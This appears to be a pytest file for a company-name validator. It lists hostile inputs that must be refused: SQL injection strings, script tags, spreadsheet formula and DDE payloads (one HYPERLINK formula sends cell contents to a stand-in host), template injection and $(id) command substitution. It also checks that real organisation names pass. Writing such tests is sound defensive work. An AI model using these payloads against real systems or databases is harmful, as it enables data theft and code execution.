"""Finding 4: hostile strings never become companies. The one validator every border asks."""

import csv
from pathlib import Path

import pytest

from kernel.name_validation import org_name_problem
from scrapers.landing import name_problem as landing_name_problem

REAL_NAMES = Path(__file__).resolve().parents[3] / "shared" / "real-names" / "pairs.csv"


@pytest.mark.parametrize(("name", "reason"), [
    ("'); DROP TABLE core.companies; --", "bad_characters"),
    ("杭州甲科技有限公司; DELETE FROM x", "bad_characters"),
    ("杭州甲科技有限公司--", "bad_characters"),
    ("<script>alert(1)</script>杭州甲科技有限公司", "markup"),
    ("杭州&lt;甲&gt;科技有限公司", "markup"),
    ("javascript:alert(1)", "markup"),
    ("=cmd|' /C calc'!A0", "formula_prefix"),
    ('=HYPERLINK("http://x/?a="&A1,"点击")', "formula_prefix"),
    ("+1+cmd|' /C calc'!A0", "formula_prefix"),
    ("-2+3+cmd|' /C calc'!A0", "formula_prefix"),
    ("@SUM(1+1)", "formula_prefix"),
    ("\t杭州甲科技有限公司", "formula_prefix"),
    ("\r杭州甲科技有限公司", "formula_prefix"),
    ("杭州甲\x00科技有限公司", "control_characters"),
    ("杭州甲\u200b科技有限公司", "control_characters"),
    ("杭州甲\u202e司公限有技科", "control_characters"),
    ("宁波\ufffd空字节有限公司", "damaged_text"),  # issue 22: a bad decode or a NUL left U+FFFD
    ("\ufffd\ufffd\ufffd\ufffd有限公司", "damaged_text"),
    ("", "missing_name"),
    ("   ", "missing_name"),
    (None, "missing_name"),
    ("123456", "not_a_name"),
    ("甲" * 81, "not_a_name"),
    ("杭州{{7*7}}科技有限公司", "bad_characters"),
    ("杭州$(id)科技有限公司", "bad_characters"),
    ("DROP TABLE x有限公司", "sql_fragment"),
    ("杭州甲 UNION SELECT password FROM users有限公司", "sql_fragment"),
])
def test_hostile_names_are_refused_with_the_right_reason(name, reason):
    problem = org_name_problem(name)
    assert problem is not None and problem.reason == reason
    assert problem.detail  # a sentence for a person


@pytest.mark.parametrize("name", [
    "杭州甲科技有限公司", "青岛啤酒（哈尔滨）有限公司", "中国银行股份有限公司杭州分行", "上海浦东发展银行股份有限公司",
    "*ST保千", "L'Oréal (China) Co., Ltd.", "3M中国有限公司", "江西《会计师》杂志社有限公司", "张三",
    "宁波市鄞州区·甬江街道办事处", "H&M (Shanghai) Commercial Co., Ltd",
    "\u3000杭州钱塘教育科技有限公司\u3000", "格林（杭州）\u00a0国际贸易有限公司",  # export padding
])
def test_real_organisation_names_pass(name):
    assert org_name_problem(name) is None


def test_landing_refuses_what_the_validator_refuses():
    assert landing_name_problem("'); DROP TABLE core.companies; --")[0] == "bad_characters"
    assert landing_name_problem("<script>x</script>")[0] == "markup"
    assert landing_name_problem("杭州甲科技有限公司") is None


@pytest.mark.skipif(not REAL_NAMES.exists(), reason="the real-names development corpus is not beside the repo")
def test_almost_every_real_name_passes():
    names = [row["name"] for row in csv.DictReader(REAL_NAMES.open(encoding="utf-8"))]
    refused = [n for n in names if org_name_problem(n) is not None]
    assert len(names) > 40_000
    assert len(refused) / len(names) < 0.001, refused[:20]
